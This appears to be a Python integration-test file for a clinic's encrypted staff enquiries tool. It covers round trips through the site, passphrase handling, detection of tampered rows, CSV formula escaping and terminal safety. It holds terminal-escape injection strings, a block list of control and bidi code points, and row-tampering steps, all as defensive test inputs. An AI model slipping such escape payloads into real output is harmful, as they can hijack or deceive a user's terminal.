"""The staff tool `enquiries` against what the real site stored: round trips
through nginx, tampered rows, hostile text on a terminal, key rotation, purge,
backup under load and the notice email.

Rows the web form would refuse (escape sequences, invalid UTF-8) are stored by
seal_helper.c, compiled at run time against build/libclinic.a.
"""
import csv
import datetime
import fcntl
import io
import json
import os
import re
import secrets
import select
import signal
import socket
import sqlite3
import stat
import subprocess
import termios
import threading
import time

from harness import (REF_PATTERN, ROOT, assert_equal, assert_in, assert_not_in, enquiry_rows,
                     pass_on_sanitizer_reports, ref_of, stack_module, wait_until)

STACK_OPTIONS = {"rate_limit_posts": 1000}

# The tool of the build under test: tools/enquiries, or build/asan's in the
# ASan pass (CLINIC_BIN_DIR); CLINIC_ENQUIRIES_TOOL names another.
TOOL = os.environ.get("CLINIC_ENQUIRIES_TOOL") or os.path.join(stack_module.BIN_DIR, "tools",
                                                               "enquiries")
REF_ALPHABET = "ABCDEFGHJKMNPQRSTUVWXYZ23456789"
CSV_COLUMNS = ["ref", "kind", "received", "day", "status", "name", "email", "phone",
               "contact_method", "voicemail", "interest", "availability", "reason", "message",
               "consent", "other_fields", "problem"]
# Code points that move the cursor, recolour, retitle or reorder a terminal.
BIDI = {0x061C, 0x200E, 0x200F, 0x2028, 0x2029} | set(range(0x202A, 0x202F)) | \
    set(range(0x2066, 0x206A))


def typed(ctx):
    """What the round-trip test typed, ref -> (kind, fields), for later tests.
    Kept on ctx: run.py runs the suite once per web server, each on its own
    stack."""
    return ctx.__dict__.setdefault("staff_typed", {})


# --- running the tool ---------------------------------------------------------
def run_tool(ctx, *args, passphrase=True, config=None, passphrase_file=None, timeout=30):
    """tools/enquiries with no terminal at all (its own session, stdin
    /dev/null), so that nothing can wait on a prompt."""
    cmd = [TOOL, "--config", config or ctx.stack.config]
    if passphrase_file or passphrase:
        cmd += ["--passphrase-file", passphrase_file or ctx.stack.passphrase_file]
    result = subprocess.run(cmd + list(args), env=ctx.stack.env(), stdin=subprocess.DEVNULL,
                            capture_output=True, timeout=timeout, start_new_session=True)
    result.out = result.stdout.decode("utf-8", "replace")
    result.err = result.stderr.decode("utf-8", "replace")
    pass_on_sanitizer_reports(result.stdout, result.stderr)
    return result


def ok(ctx, *args, **kw):
    result = run_tool(ctx, *args, **kw)
    if result.returncode != 0:
        raise AssertionError("enquiries %s exited %d:\n%s%s" % (
            " ".join(args), result.returncode, result.out[-800:], result.err[-800:]))
    assert_equal(result.err, "", "enquiries %s wrote to stderr" % " ".join(args))
    return result


def assert_clean_failure(result, *phrases, code=1):
    """Exit status code (not a signal), a whole sentence from the tool on
    stderr containing each phrase, and no sign of a crash."""
    what = "enquiries %s" % " ".join(a if isinstance(a, str) else a.decode()
                                     for a in result.args[1:])
    if result.returncode != code:
        raise AssertionError("%s: expected exit %d, got %d\nstdout: %s\nstderr: %s" % (
            what, code, result.returncode, result.stdout[-600:], result.stderr[-600:]))
    err = result.stderr.decode("utf-8")
    for crash in ("Segmentation", "Abort", "core dumped", "AddressSanitizer", "runtime error",
                  "Traceback"):
        assert_not_in(crash, err + result.stdout.decode("utf-8", "replace"), what)
    assert err.startswith("enquiries: "), "%s: stderr is not the tool's sentence: %r" % (
        what, err[:300])
    assert re.search(r"\S[^\n]{15,}[.!]\n", err), "%s: no whole sentence on stderr: %r" % (
        what, err[:300])
    for phrase in phrases:
        assert_in(phrase, err, what + " stderr")


def run_in_pty(ctx, *args, config=None):
    """The tool with standard output and error on a pseudo-terminal (output
    post-processing off, so the bytes read are the bytes written)."""
    master, slave = os.openpty()
    attrs = termios.tcgetattr(slave)
    attrs[1] &= ~termios.OPOST
    termios.tcsetattr(slave, termios.TCSANOW, attrs)
    cmd = [TOOL, "--config", config or ctx.stack.config, "--passphrase-file",
           ctx.stack.passphrase_file] + list(args)
    proc = subprocess.Popen(cmd, env=ctx.stack.env(), stdin=subprocess.DEVNULL, stdout=slave,
                            stderr=slave, start_new_session=True)
    os.close(slave)
    out = b""
    deadline = time.time() + 30
    try:
        while time.time() < deadline:
            ready, _, _ = select.select([master], [], [], 1)
            if not ready:
                if proc.poll() is not None:
                    break
                continue
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: every copy of the slave side is closed
                break
            if not data:
                break
            out += data
        code = proc.wait(timeout=10)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    return code, out


def run_with_terminal(ctx, *args, answers=()):
    """The tool without --passphrase-file, with a pseudo-terminal as its
    controlling terminal. Each answer is typed once its prompt is out and
    echo is off (typing earlier would be flushed). Returns (exit, output)."""
    master, slave = os.openpty()

    def take_terminal():
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    proc = subprocess.Popen([TOOL, "--config", ctx.stack.config] + list(args),
                            env=ctx.stack.env(), stdin=slave, stdout=slave, stderr=slave,
                            start_new_session=True, preexec_fn=take_terminal)
    os.close(slave)
    out = b""
    typed = 0
    deadline = time.time() + 30
    try:
        while time.time() < deadline:
            ready, _, _ = select.select([master], [], [], 0.02)
            if ready:
                try:
                    data = os.read(master, 65536)
                except OSError:
                    break
                if not data:
                    break
                out += data
            elif proc.poll() is not None:
                break
            try:
                echo_off = not termios.tcgetattr(master)[3] & termios.ECHO
            except termios.error:
                break
            if typed < len(answers) and out.count(b"Passphrase: ") > typed and echo_off:
                os.write(master, answers[typed].encode() + b"\n")
                typed += 1
        code = proc.wait(timeout=10)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    return code, out.decode("utf-8", "replace")


def assert_harmless(data, what):
    """Valid UTF-8 (so no lone C1 byte such as 0x9B) with no code point
    that can drive a terminal; line ends are LF or CR LF."""
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as e:
        raise AssertionError("%s: not valid UTF-8 (%s) near %r" % (
            what, e, data[max(0, e.start - 40):e.start + 40]))
    text = text.replace("\r\n", "\n")
    for i, ch in enumerate(text):
        cp = ord(ch)
        if (cp < 0x20 and ch != "\n") or 0x7F <= cp <= 0x9F or cp in BIDI:
            raise AssertionError("%s: U+%04X reached the terminal near %r" % (
                what, cp, text[max(0, i - 40):i + 40]))
    return text


# --- the site ---------------------------------------------------------------------
def submit(ctx, kind, **fields):
    resp = ctx.post("/" + kind, ctx.form(kind, **fields))
    ref = ref_of(resp)
    if not ref:
        logs = ""
        for name in ("clinic.log", "nginx-error.log", "apache-error.log"):
            path = ctx.stack.path("log", name)
            if os.path.exists(path):
                with open(path, errors="replace") as f:
                    logs += "\n%s:\n%s" % (name, f.read()[-1500:])
        raise AssertionError("posting %s: expected a 303 to /thanks, got %r%s" % (
            kind, resp, logs))
    return ref


def restart_contact(ctx):
    proc = ctx.stack.procs["contact"]
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=35)
    ctx.stack.start_program("contact")
    # start_program returns once the socket file exists, but the program
    # binds it before it listens: a post in between is refused, and Apache
    # then keeps answering 503 for its retry period.
    path = ctx.stack.path("run", "contact.sock")

    def accepting():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as probe:
            try:
                probe.connect(path)
                return True
            except OSError:
                return False

    assert wait_until(accepting, 10), "contact.fcgi did not start listening again"


def today():
    return datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%d")


def days_ago(n):
    return (datetime.datetime.now(datetime.timezone.utc) -
            datetime.timedelta(days=n)).strftime("%Y-%m-%d")


def live_db(ctx):
    return ctx.stack.path("enquiries.db")


def db_execute(path, sql, params=()):
    conn = sqlite3.connect(path, timeout=10)
    try:
        with conn:
            cursor = conn.execute(sql, params)
            return cursor.fetchall()
    finally:
        conn.close()


def copy_db(ctx, name):
    """A consistent copy of the live enquiry database, to tamper with."""
    dest = ctx.stack.path(name)
    for suffix in ("", "-wal", "-shm", ".lock"):
        if os.path.exists(dest + suffix):
            os.unlink(dest + suffix)
    src = sqlite3.connect(live_db(ctx), timeout=10)
    dst = sqlite3.connect(dest)
    try:
        src.backup(dst)
    finally:
        src.close()
        dst.close()
    return dest


def config_copy(ctx, name, **settings):
    """The stack's site.conf beside it under name, with settings replaced or
    added (the config refuses a key given twice)."""
    with open(ctx.stack.config) as f:
        lines = f.read().splitlines()
    for key, value in settings.items():
        lines = [line for line in lines if not re.match(r"\s*%s\s*=" % re.escape(key), line)]
        lines.append("%s = %s" % (key, value))
    path = ctx.stack.path(name)
    with open(path, "w") as f:
        f.write("\n".join(lines) + "\n")
    return path


def new_ref():
    code = "".join(secrets.choice(REF_ALPHABET) for _ in range(8))
    return code[:4] + "-" + code[4:]


def public_key_id(ctx):
    with open(ctx.stack.path("staff.pub")) as f:
        magic, key_id, _ = f.read().split()
    assert_equal(magic, "clinic-staff-key-v1", "public key file")
    return key_id


# --- sealing what the web form would refuse -----------------------------------
def seal_helper(ctx):
    binary = ctx.stack.path("seal_helper")
    if os.path.exists(binary):
        return binary
    pkgs = ["fcgi", "libsodium", "sqlite3", "libcmark", "libseccomp"]
    cflags = subprocess.run(["pkg-config", "--cflags"] + pkgs, capture_output=True,
                            text=True).stdout.split()
    libs = subprocess.run(["pkg-config", "--libs"] + pkgs, capture_output=True,
                          text=True).stdout.split()
    library = os.path.join(stack_module.BUILD_DIR, "libclinic.a")
    if stack_module.BUILD_DIR.rstrip("/").endswith("asan"):  # the sanitizer build's library
        compiler = ["clang", "-fsanitize=address,undefined", "-fno-sanitize-recover=all", "-g"]
    else:
        compiler = ["cc", "-D_FORTIFY_SOURCE=2", "-O2", "-fstack-protector-strong"]
    cmd = (compiler + ["-std=c17", "-Wall", "-Wextra", "-Werror", "-pedantic", "-D_GNU_SOURCE",
                       "-I" + os.path.join(ROOT, "lib")] + cflags +
           ["-o", binary, os.path.join(ROOT, "tests", "integration", "seal_helper.c"),
            library] + libs)
    built = subprocess.run(cmd, capture_output=True, text=True)
    if built.returncode != 0:
        raise AssertionError("seal_helper did not build:\n" + built.stderr[-2000:])
    return binary


def envelope(kind, ref, received, key_id, fields):
    """The serialised plaintext of envelope.h; field values are bytes or str."""
    records = [("kind", kind), ("ref", ref), ("received", received), ("key_id", key_id)]
    records += [("field." + name, value) for name, value in fields]
    out = b"CLINIC-ENQUIRY 1\n"
    for name, value in records:
        value = value.encode("utf-8") if isinstance(value, str) else value
        out += b"%s %d\n%s\n" % (name.encode(), len(value), value)
    return out


def seal_row(ctx, kind, fields, ref=None, day=None, db=None):
    """Stores an enquiry sealed to the current public key without the web."""
    ref = ref or new_ref()
    day = day or today()
    received = day + "T12:34:56.789Z"
    plain = envelope(kind, ref, received, public_key_id(ctx), fields)
    done = subprocess.run([seal_helper(ctx), ctx.stack.path("staff.pub"), db or live_db(ctx),
                           ref, kind, day], input=plain, capture_output=True, timeout=30)
    if done.returncode != 0:
        raise AssertionError("seal_helper failed: " + done.stderr.decode("utf-8", "replace"))
    return ref


# --- 1. round trip through the real site -----------------------------------------
def test_round_trip_through_the_site_gives_back_exactly_what_was_typed(ctx):
    contact = {
        "name": "Zoë Ångström 李",
        "email": "zoë@例え.example",
        "phone": "+44 20 7946 0000",
        "message": "Hello 👋🏽, I'd like to talk — \"soon\", if possible.\n"
                   "Second line: <b>not bold</b> & 100% honest; a, b, c\n"
                   "\n"
                   "After a blank line: naïve café, Ελληνικά, עברית, 👩\u200d⚕️ \u2713",
        "consent": "yes",
    }
    start = {
        "name": "Łukasz O'Brien-Søgaard",
        "email": "lukasz@example.org",
        "phone": "07700 900123",
        "contact_method": "phone",
        "voicemail": "yes",
        "interest": "dit",
        "reason": "I keep having the same argument 🔁 with everyone.\nWork, home — all of it.",
        "availability": "Tuesdays after 6pm\nSaturday mornings",
        "consent": "yes",
    }
    contact_ref = submit(ctx, "contact", **contact)
    start_ref = submit(ctx, "start", **start)
    typed(ctx)[contact_ref] = ("contact", contact)
    typed(ctx)[start_ref] = ("start", start)

    # list: one line each, with the name and the start of the message.
    listed = ok(ctx, "list").out
    lines = {line.split()[0]: line for line in listed.splitlines() if re.match(REF_PATTERN, line)}
    assert_in(contact_ref, lines, "list")
    assert_in(start_ref, lines, "list")
    assert re.match(r"%s\s+contact\s+\d{4}-\d\d-\d\d \d\d:\d\d\s+new\s+Zoë Ångström 李\s+"
                    r"Hello 👋🏽, I'd like" % contact_ref, lines[contact_ref]), lines[contact_ref]
    assert re.match(r"%s\s+start\s+.*new\s+Łukasz O'Brien-Søgaard\s+I keep having"
                    % start_ref, lines[start_ref]), lines[start_ref]
    assert re.search(r"^\d+ enquiries\.$", listed, re.M), listed[-200:]

    # list --json: the name exactly, the preview with newlines made spaces.
    records = {r["ref"]: r for r in json.loads(ok(ctx, "list", "--json").out)}
    assert_equal(records[contact_ref]["name"], contact["name"], "list --json name")
    assert_equal(records[contact_ref]["kind"], "contact", "list --json kind")
    assert_equal(records[contact_ref]["day"], today(), "list --json day")
    assert_equal(records[contact_ref]["status"], "new", "list --json status")
    assert records[contact_ref]["preview"].startswith("Hello 👋🏽, I'd like to talk — \"soon\", "
                                                      "if possible. Second"), records[contact_ref]
    assert records[contact_ref]["received"].startswith(today() + "T"), records[contact_ref]

    # show: every answer on its labelled line, the message as typed.
    shown = ok(ctx, "show", contact_ref).out
    for label, value in (("Reference", contact_ref), ("Form", "Contact us"), ("Status", "new"),
                         ("Name", contact["name"]), ("Email", contact["email"]),
                         ("Phone", contact["phone"]), ("Consent given", "Yes")):
        assert re.search(r"^%s +%s$" % (re.escape(label), re.escape(value)), shown, re.M), \
            "show: no line %r %r in\n%s" % (label, value, shown)
    body = "\n".join("    " + line if line else "" for line in contact["message"].split("\n"))
    assert_in("Message:\n" + body + "\n", shown, "show message")

    # The reference may be typed in small letters without its dash.
    shown_start = ok(ctx, "show", start_ref.replace("-", "").lower()).out
    for label, value in (("Reference", start_ref), ("Form", "Start your journey"),
                         ("Name", start["name"]), ("Phone", start["phone"]),
                         ("Preferred contact", "Phone"),
                         ("Voicemail allowed", "Yes"),
                         ("Interested in", "Dynamic Interpersonal Therapy")):
        assert re.search(r"^%s +%s$" % (re.escape(label), re.escape(value)), shown_start,
                         re.M), "show: no line %r %r in\n%s" % (label, value, shown_start)
    assert_in("What brings them:\n    I keep having the same argument 🔁 with everyone.\n"
              "    Work, home — all of it.\n", shown_start, "show reason")
    assert_in("Availability:\n    Tuesdays after 6pm\n    Saturday mornings\n", shown_start,
              "show availability")

    # export --format json: every field exactly, and nothing else.
    exported = {r["ref"]: r for r in json.loads(ok(ctx, "export", "--format", "json").out)}
    for ref, (kind, sent) in ((contact_ref, ("contact", contact)),
                               (start_ref, ("start", start))):
        record = exported[ref]
        assert_equal(record["kind"], kind, "export json kind")
        assert_equal(record["status"], "new", "export json status")
        assert_equal(record["day"], today(), "export json day")
        assert re.match(r"^%sT\d\d:\d\d:\d\d\.\d{3}Z$" % today(), record["received"]), record
        assert_equal(record["fields"], sent, "export json fields of " + ref)
        assert "problem" not in record, record

    # export --format csv (to a pipe): RFC 4180, every cell exactly, phone
    # numbers and other formula-like cells behind an apostrophe.
    text = ok(ctx, "export", "--format", "csv").stdout.decode("utf-8")
    assert text.startswith(",".join(CSV_COLUMNS) + "\r\n"), text[:200]
    assert text.endswith("\r\n"), text[-50:]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert_equal(rows[0], CSV_COLUMNS, "csv heading")
    by_ref = {row[0]: dict(zip(CSV_COLUMNS, row)) for row in rows[1:]}
    for row in rows[1:]:
        assert_equal(len(row), len(CSV_COLUMNS), "cells in a csv row")
    for ref, (kind, sent) in ((contact_ref, ("contact", contact)),
                               (start_ref, ("start", start))):
        row = by_ref[ref]
        assert_equal(row["kind"], kind, "csv kind")
        assert_equal(row["received"], exported[ref]["received"], "csv received")
        assert_equal(row["day"], today(), "csv day")
        assert_equal(row["status"], "new", "csv status")
        assert_equal(row["other_fields"], "", "csv other_fields")
        assert_equal(row["problem"], "", "csv problem")
        for column in CSV_COLUMNS[5:15]:
            value = sent.get(column, "")
            expected = "'" + value if value[:1] in ("=", "+", "-", "@") else value
            assert_equal(row[column], expected, "csv %s of %s" % (column, ref))


def test_export_and_list_filters_by_kind_status_and_day(ctx):
    contact_refs = {r for r, (k, _) in typed(ctx).items() if k == "contact"}
    start_refs = {r for r, (k, _) in typed(ctx).items() if k == "start"}
    kinds = {r["ref"]: r["kind"] for r in json.loads(
        ok(ctx, "export", "--format", "json", "--kind", "start").out)}
    assert set(kinds.values()) == {"start"}, kinds
    assert start_refs <= set(kinds) and not contact_refs & set(kinds), kinds
    assert_equal(ok(ctx, "list", "--since", days_ago(-1)).out, "No enquiries match.\n",
                 "list --since tomorrow")
    assert_equal(json.loads(ok(ctx, "list", "--json", "--since", days_ago(-1)).out), [],
                 "list --json with nothing")
    assert_clean_failure(run_tool(ctx, "list", "--since", "2026-02-30"), "--since", code=2)
    assert_clean_failure(run_tool(ctx, "list", "--status", "open"), "--status", code=2)
    assert_clean_failure(run_tool(ctx, "export"), "--format", code=2)
    assert_clean_failure(run_tool(ctx, "export", "--format", "xml"), "--format", code=2)


# --- mark and list --status -----------------------------------------------------
def test_mark_handled_and_new_moves_an_enquiry_between_status_filters(ctx):
    ref = submit(ctx, "contact", name="Mark Me", message="Please mark me.")
    other = submit(ctx, "contact", name="Leave Me", message="Leave me new.")

    def refs(*filters):
        return {r["ref"] for r in json.loads(ok(ctx, "list", "--json", *filters).out)}

    assert ref in refs("--status", "new") and ref not in refs("--status", "handled")
    assert_in("Marked %s as handled." % ref,
              ok(ctx, "mark", ref.lower().replace("-", ""), "handled").out)
    assert_equal(db_execute(live_db(ctx), "SELECT status FROM enquiries WHERE ref = ?",
                            (ref,)), [("handled",)], "status in the database")
    assert ref in refs("--status", "handled") and ref not in refs("--status", "new")
    assert other in refs("--status", "new") and other not in refs("--status", "handled")
    assert {ref, other} <= refs("--status", "all") and {ref, other} <= refs()
    handled_lines = ok(ctx, "list", "--status", "handled").out
    assert re.search(r"^%s\s+contact\s+.*handled\s+Mark Me" % ref, handled_lines, re.M), \
        handled_lines
    assert_in("%s is already marked handled." % ref, ok(ctx, "mark", ref, "handled").out)
    assert_in("Marked %s as new." % ref, ok(ctx, "mark", ref, "new").out)
    assert ref in refs("--status", "new") and ref not in refs("--status", "handled")
    ok(ctx, "mark", ref, "handled")  # left handled for stats and notify below

    assert_clean_failure(run_tool(ctx, "mark", "ZZZZ-ZZZZ", "handled"),
                         "There is no enquiry with the reference ZZZZ-ZZZZ")
    assert_clean_failure(run_tool(ctx, "mark", ref, "done"), "handled or new", code=2)
    assert_clean_failure(run_tool(ctx, "mark", ref), "enquiries mark REF handled|new", code=2)
    assert_clean_failure(run_tool(ctx, "show", "ZZZZ-ZZZZ"),
                         "There is no enquiry with the reference ZZZZ-ZZZZ")


# --- stats and commands that need no key -----------------------------------------
def test_stats_needs_no_passphrase_and_counts_what_is_stored(ctx):
    result = ok(ctx, "stats", passphrase=False)
    rows = enquiry_rows(live_db(ctx))
    total = len(rows)
    handled = sum(1 for r in rows if r["status"] == "handled")
    contact = sum(1 for r in rows if r["kind"] == "contact")
    assert handled >= 1, "the mark test left one handled"
    assert_in("Enquiries:  %d (%d new, %d handled)\n" % (total, total - handled, handled),
              result.out, "stats")
    assert_in("By form:    contact %d, start %d\n" % (contact, total - contact), result.out,
              "stats")
    assert_in("  %s  %d\n" % (today(), sum(1 for r in rows if r["received_day"] == today())),
              result.out, "stats by day")
    for row in rows:  # nothing of any enquiry's content
        assert_not_in(row["ref"], result.out, "stats")


def test_reading_without_a_passphrase_or_terminal_says_how_to_give_one(ctx):
    started = time.time()
    result = run_tool(ctx, "list", passphrase=False)
    assert_clean_failure(result, "no terminal", "--passphrase-file")
    assert_equal(result.stdout, b"", "no output without the key")
    assert time.time() - started < 10, "it waited for a terminal that is not there"


# --- 2. wrong passphrase, missing keys, tampered rows ------------------------------
def test_wrong_passphrase_is_refused_with_a_sentence(ctx):
    wrong = ctx.stack.path("wrong-passphrase")
    with open(wrong, "w") as f:
        f.write("not the passphrase at all\n")
    for command in (["list"], ["show", next(iter(typed(ctx)))], ["export", "--format", "csv"],
                    ["verify"], ["rotate"]):
        result = run_tool(ctx, *command, passphrase_file=wrong)
        assert_clean_failure(result, "passphrase", "does not open the keyring")
        assert_equal(result.stdout, b"", "no output with a wrong passphrase")
    empty = ctx.stack.path("empty-passphrase")
    open(empty, "w").close()
    assert_clean_failure(run_tool(ctx, "list", passphrase_file=empty), "is empty")
    assert_clean_failure(run_tool(ctx, "list", passphrase_file=ctx.stack.path("no-such-file")),
                         "Could not open the passphrase file")
    with open(ctx.stack.path("staff.keyring")) as f:
        assert_equal(len(f.read().splitlines()), 2, "the keyring was left alone")


def stack_passphrase(ctx):
    with open(ctx.stack.passphrase_file) as f:
        return f.readline().rstrip("\n")


def test_passphrase_typed_on_the_terminal_is_not_echoed_and_may_be_retyped(ctx):
    right = stack_passphrase(ctx)
    wrong = ["wrong-guess-%d-%s" % (i, secrets.token_hex(4)) for i in range(3)]
    code, out = run_with_terminal(ctx, "list", answers=wrong)
    assert_equal(code, 1, "three wrong passphrases: %r" % out[-500:])
    assert_equal(out.count("Passphrase: "), 3, "asked three times: %r" % out)
    assert_equal(out.count("That passphrase does not open the keyring. Please try again."), 2,
                 "asked again twice: %r" % out)
    assert_in("That passphrase does not open the keyring %s. Nothing was changed."
              % ctx.stack.path("staff.keyring"), out)
    for guess in wrong:
        assert_not_in(guess, out, "a typed passphrase was echoed")
    assert_not_in("enquiries.", out, "nothing listed")

    code, out = run_with_terminal(ctx, "list", answers=[wrong[0], right])
    assert_equal(code, 0, "a mistyped, then right passphrase: %r" % out[-500:])
    assert_equal(out.count("Please try again."), 1, "asked again once")
    assert_not_in(right, out, "the passphrase was echoed")
    assert_not_in(wrong[0], out, "a typed passphrase was echoed")
    for name in ("Zoë Ångström 李", "Łukasz O'Brien-Søgaard"):
        assert_in(name, out, "listed once the passphrase was right")


def test_passwd_changes_the_passphrase_and_init_refuses_to_replace_the_keyring(ctx):
    keyring = ctx.stack.path("staff.keyring")
    with open(keyring) as f:
        original = f.read()
    new_file = ctx.stack.path("new-passphrase")
    with open(new_file, "w") as f:
        f.write("a new and longer passphrase\n")
    short = ctx.stack.path("short-passphrase")
    with open(short, "w") as f:
        f.write("short\n")
    refused = run_tool(ctx, "passwd", "--new-passphrase-file", short)
    assert_clean_failure(refused, "at least 8 characters")
    with open(keyring) as f:
        assert_equal(f.read(), original, "a refused passwd leaves the keyring alone")
    try:
        changed = ok(ctx, "passwd", "--new-passphrase-file", new_file)
        assert_in("Changed the passphrase of %s." % keyring, changed.out)
        assert_clean_failure(run_tool(ctx, "list"), "does not open the keyring")
        records = json.loads(ok(ctx, "export", "--format", "json",
                                passphrase_file=new_file).out)
        assert {r["ref"] for r in records} >= set(typed(ctx)), "every enquiry reads after passwd"
        with open(keyring) as f:
            lines = f.read().splitlines()
        assert_equal([l.split()[:2] for l in lines[1:]],
                     [l.split()[:2] for l in original.splitlines()[1:]], "the same keys")
        assert_equal(stat.S_IMODE(os.stat(keyring).st_mode), 0o600, "keyring mode")
    finally:
        ok(ctx, "passwd", "--new-passphrase-file", ctx.stack.passphrase_file,
           passphrase_file=new_file)
    assert_in("every one opens", ok(ctx, "verify").out)

    with open(keyring) as f:
        before = f.read()
    with open(ctx.stack.path("staff.pub")) as f:
        public = f.read()
    assert_clean_failure(run_tool(ctx, "init"), "A keyring already exists",
                         "so nothing was changed")
    with open(keyring) as f:
        assert_equal(f.read(), before, "init left the keyring alone")
    with open(ctx.stack.path("staff.pub")) as f:
        assert_equal(f.read(), public, "init left the public key alone")


def test_missing_or_damaged_keyring_is_explained(ctx):
    config = config_copy(ctx, "site-nokeyring.conf", secret_key="nowhere/staff.keyring")
    result = run_tool(ctx, "list", config=config)
    assert_clean_failure(result, "There is no keyring at", "enquiries init")
    assert_equal(result.stdout, b"", "no output without a keyring")
    assert_clean_failure(run_tool(ctx, "export", "--format", "json", config=config),
                         "There is no keyring")
    damaged = ctx.stack.path("damaged.keyring")
    with open(ctx.stack.path("staff.keyring")) as f:
        lines = f.read().splitlines()
    with open(damaged, "w") as f:
        f.write(lines[0] + "\nthis is not a key\n")
    config = config_copy(ctx, "site-damaged.conf", secret_key=damaged)
    assert_clean_failure(run_tool(ctx, "show", next(iter(typed(ctx))), config=config), "damaged")
    missing_db = ctx.stack.path("no-such.db")
    assert_clean_failure(run_tool(ctx, "stats", "--db", missing_db),
                         "There is no enquiry database at")
    assert not os.path.exists(missing_db), "a mistyped --db must not create a database"
    assert_clean_failure(run_tool(ctx, "list", config=ctx.stack.path("no-such.conf")))


def test_altered_sealed_bytes_are_reported_not_shown(ctx):
    db = copy_db(ctx, "altered-bytes.db")
    victim = next(r for r, (k, _) in typed(ctx).items() if k == "contact")
    (sealed,) = db_execute(db, "SELECT sealed FROM enquiries WHERE ref = ?", (victim,))[0]
    flipped = bytearray(sealed)
    flipped[len(flipped) // 2] ^= 0x01
    db_execute(db, "UPDATE enquiries SET sealed = ? WHERE ref = ?", (bytes(flipped), victim))
    name = typed(ctx)[victim][1]["name"]

    listed = run_tool(ctx, "--db", db, "list")
    assert_clean_failure(listed, "1 enquiry could not be read properly", "enquiries verify")
    line = next(l for l in listed.out.splitlines() if l.startswith(victim))
    assert_in("! This enquiry could not be opened: the stored bytes were altered", line)
    assert_not_in(name, line, "list of an altered row")
    for ref in typed(ctx):  # the others still read
        if ref != victim:
            assert_in(typed(ctx)[ref][1]["name"], listed.out, "list of the untouched rows")

    shown = run_tool(ctx, "--db", db, "show", victim)
    assert_clean_failure(shown, victim)
    assert_in("This enquiry could not be opened", shown.out)
    assert_not_in(name, shown.out, "show of an altered row")

    exported = run_tool(ctx, "--db", db, "export", "--format", "json")
    assert_clean_failure(exported, "Enquiry %s could not be opened" % victim)
    record = next(r for r in json.loads(exported.out) if r["ref"] == victim)
    assert_equal((record["fields"], record["received"]), (None, None), "export of altered")
    assert_in("could not be opened", record["problem"])

    csv_out = run_tool(ctx, "--db", db, "export", "--format", "csv")
    assert_clean_failure(csv_out, victim)
    row = next(r for r in csv.reader(io.StringIO(csv_out.out, newline="")) if r[0] == victim)
    assert_equal(row[5:15], [""] * 10, "csv cells of an altered row")
    assert_in("could not be opened", row[16])

    verified = run_tool(ctx, "--db", db, "verify")
    assert_clean_failure(verified, "1 has a problem")
    assert_in("%s: this enquiry could not be opened" % victim, verified.out)
    assert_equal(len(re.findall("^" + REF_PATTERN + ":", verified.out, re.M)), 1,
                 "verify names only the altered row")


def test_altered_metadata_is_caught_by_every_reader(ctx):
    contact_ref = next(r for r, (k, _) in typed(ctx).items() if k == "contact")
    start_ref = next(r for r, (k, _) in typed(ctx).items() if k == "start")
    day_ref, key_ref, swapped_ref, source_ref, untouched = (
        submit(ctx, "contact", name="Meta %d" % i, message="For tampering.") for i in range(5))
    db = copy_db(ctx, "altered-meta.db")
    moved_ref = "ZZZZ-ZZZZ"
    db_execute(db, "UPDATE enquiries SET kind = 'start' WHERE ref = ?", (contact_ref,))
    db_execute(db, "UPDATE enquiries SET ref = ? WHERE ref = ?", (moved_ref, start_ref))
    db_execute(db, "UPDATE enquiries SET received_day = '2020-01-01' WHERE ref = ?", (day_ref,))
    db_execute(db, "UPDATE enquiries SET key_id = '0000000000000000' WHERE ref = ?", (key_ref,))
    # A row carrying another row's sealed bytes, both still well sealed.
    db_execute(db, "UPDATE enquiries SET sealed = (SELECT sealed FROM enquiries WHERE ref = ?)"
               " WHERE ref = ?", (source_ref, swapped_ref))
    expected = {
        contact_ref: 'is a "contact" form inside, but its record says "start"',
        moved_ref: "says it is %s inside, not %s" % (start_ref, moved_ref),
        day_ref: "but its record gives the day 2020-01-01",
        key_ref: "is sealed to a key this keyring does not hold (key id 0000000000000000)",
        swapped_ref: "says it is %s inside, not %s" % (source_ref, swapped_ref),
    }

    verified = run_tool(ctx, "--db", db, "verify")
    assert_clean_failure(verified, "%d have a problem" % len(expected))
    reported = dict(re.findall(r"^(%s|ZZZZ-ZZZZ): this enquiry (.*)\.$" % REF_PATTERN,
                               verified.out, re.M))
    assert_equal(set(reported), set(expected), "rows verify reports")
    for ref, phrase in expected.items():
        assert_in(phrase, reported[ref], "verify of " + ref)

    listed = run_tool(ctx, "--db", db, "list")
    assert_clean_failure(listed, "%d enquiries could not be read properly" % len(expected))
    for ref in expected:
        line = next(l for l in listed.out.splitlines() if l.startswith(ref))
        assert_in("! This enquiry", line, "list of " + ref)
        assert_not_in("For tampering.", line, "list of " + ref)
    assert re.search(r"^%s .*Meta 4\s+For tampering\.$" % untouched, listed.out, re.M), \
        "the untouched row is listed as usual"

    shown = run_tool(ctx, "--db", db, "show", contact_ref)
    assert_clean_failure(shown, contact_ref)
    assert_in("Warning: this enquiry is a \"contact\" form inside, but its record says "
              "\"start\"", shown.out)
    shown = run_tool(ctx, "--db", db, "show", moved_ref)
    assert_clean_failure(shown, moved_ref)
    assert_in("Warning: this enquiry says it is %s inside" % start_ref, shown.out)

    exported = run_tool(ctx, "--db", db, "export", "--format", "json")
    assert_clean_failure(exported, "could not be read properly")
    problems = {r["ref"]: r.get("problem", "") for r in json.loads(exported.out)}
    for ref, phrase in expected.items():
        assert_in(phrase, problems[ref], "export problem of " + ref)
    assert_equal(ok(ctx, "verify").out.count("every one opens"), 1, "the live db is untouched")


# --- 3. hostile text ----------------------------------------------------------------
def test_the_form_refuses_terminal_controls(ctx):
    before = len(enquiry_rows(live_db(ctx)))
    for hostile in ("clear \x1b[2J\x1b]0;pwned\x07", "csi \u009b31m red", "bell \x07",
                    "del \x7f", "nul \x00"):
        resp = ctx.post("/contact", ctx.form("contact", message=hostile))
        assert_equal(resp.status, 422, "posting %r" % hostile)
        resp = ctx.post("/contact", ctx.form("contact", name="Eve " + hostile))
        assert_equal(resp.status, 422, "posting a name %r" % hostile)
